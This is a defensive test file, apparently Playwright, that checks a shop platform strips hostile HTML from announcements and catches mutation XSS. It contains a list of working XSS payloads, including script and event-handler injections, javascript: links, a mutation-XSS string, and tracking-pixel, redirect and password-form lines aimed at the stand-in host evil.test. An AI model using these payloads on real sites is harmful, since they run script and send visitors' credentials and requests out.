import { hostileHtml } from '@onehaul/testing/hostile-html';
import { announcementsOf } from '../demo-data.ts';
import { ask, originOf, sql } from '../product.ts';
import { copyShop, newHost } from '../shop-copy.ts';
import { expect, openPage, test } from '../test.ts';

/** Payloads that try to execute, load or navigate (S35). */
const hostile = [
  '<img src="/files/article/nothing.png" onerror="window.hit = 1">',
  '<svg><script>window.hit = 2</script></svg>',
  '<svg onload="window.hit = 3"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.hit=4>">',
  '<a href="javascript:window.hit = 5" id="trap">trap</a>',
  '<a href=" java\tscript:window.hit = 6">trap</a>',
  '<p style="background: url(https://evil.test/pixel)">pixel</p>',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
  '<iframe srcdoc="<script>parent.hit = 7</script>"></iframe>',
  '<meta http-equiv="refresh" content="0; url=https://evil.test/">',
  '<object data="https://evil.test/"></object><embed src="https://evil.test/">',
  '<script>window.hit = 8</script>',
  '<style>body { display: none }</style>',
  '</div></main><h1>closed too early</h1>',
].join('\n');

// The missing picture is requested from the shop's own host, which is allowed.
test.use({ meets: [404] });

test('hostile HTML in a shop’s own text neither runs nor loads nor leads away', async ({ page }) => {
  const shop = await copyShop('northstar.localhost', newHost('hostile'));
  const [announcement] = await announcementsOf(shop);
  // Bypasses the sanitizer on save: the one on display must hold alone (A63).
  await sql('update announcement set contents = $1 where tenant_id = $2 and id = $3', [
    JSON.stringify({ en: `${hostile}<p>The harmless end.</p>` }),
    shop.tenantId,
    announcement!.id,
  ]);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(originOf(shop.host))) elsewhere.push(request.url());
  });
  await openPage(page, shop.host, `/news-detail?id=${announcement!.id}&lang=en`);
  const content = page.locator('.rich-text');
  await expect(content).toContainText('The harmless end.');
  await expect(
    content.locator('script, style, form, iframe, object, embed, base, meta, svg, math'),
  ).toHaveCount(0);
  const handlers = await content
    .locator('*')
    .evaluateAll((all) =>
      all
        .flatMap((one) => one.getAttributeNames())
        .filter((name) => name.startsWith('on') || name === 'style'),
    );
  expect(handlers).toEqual([]);
  await expect(content.locator('a[href*="script:"]')).toHaveCount(0);
  await expect(page.getByRole('main').getByText('closed too early')).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  expect(elsewhere).toEqual([]);
});

/** Parses a text with a real parser, then its serialization again: the second pass reveals mutation XSS. */
function dangersIn(html: string): string[] {
  const read = (text: string) => {
    // A template's content is inert: it is parsed, but nothing in it executes or loads.
    const frame = document.createElement('template');
    frame.innerHTML = text;
    const dangers = [...frame.content.querySelectorAll('*')].flatMap((element) => {
      const { localName: name, namespaceURI: space } = element;
      const isPlain =
        space === 'http://www.w3.org/1999/xhtml' &&
        /^(h[2-4]|p|br|hr|[uo]l|li|strong|em|[abius]|su[bp]|blockquote|code|pre|table|caption|t(head|body|r|h|d)|img|fig(ure|caption))$/.test(
          name,
        );
      const attributes = element
        .getAttributeNames()
        .filter(
          (attribute) => !/^(href|title|src|alt|width|height|colspan|rowspan|scope|start)$/.test(attribute),
        );
      const link = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
      const leads = link === '' ? undefined : new URL(link, location.href);
      const isSafe =
        !leads || ['https:', 'mailto:', 'tel:'].includes(leads.protocol) || leads.origin === location.origin;
      return [...(isPlain ? [] : [name]), ...attributes, ...(isSafe ? [] : [link])];
    });
    return { dangers, written: frame.innerHTML };
  };
  const first = read(html);
  return [...first.dangers, ...read(first.written).dangers];
}

test('S35: no hostile text is anything but plain HTML to a real parser, once or twice', async ({ page }) => {
  const shop = await copyShop('northstar.localhost', newHost('parsed'));
  const [announcement] = await announcementsOf(shop);
  await openPage(page, shop.host, '/index');
  const dangerous: Record<string, string[]> = {};
  for (const html of hostileHtml) {
    await sql('update announcement set contents = $1 where tenant_id = $2 and id = $3', [
      JSON.stringify({ en: html.replaceAll('\0', '') }),
      shop.tenantId,
      announcement!.id,
    ]);
    const { text } = await ask(shop.host, `/api/Base_Proclamation/GetDataDetail?Id=${announcement!.id}`, {
      'accept-language': 'en',
    });
    const { Data } = JSON.parse(text) as { Data: { Content: string } };
    const dangers = await page.evaluate(dangersIn, Data.Content);
    if (dangers.length > 0) dangerous[html] = dangers;
  }
  expect(dangerous).toEqual({});
  expect(await page.evaluate(dangersIn, '<p data-x="1"><svg></svg></p>'), 'the check sees').not.toEqual([]);
});
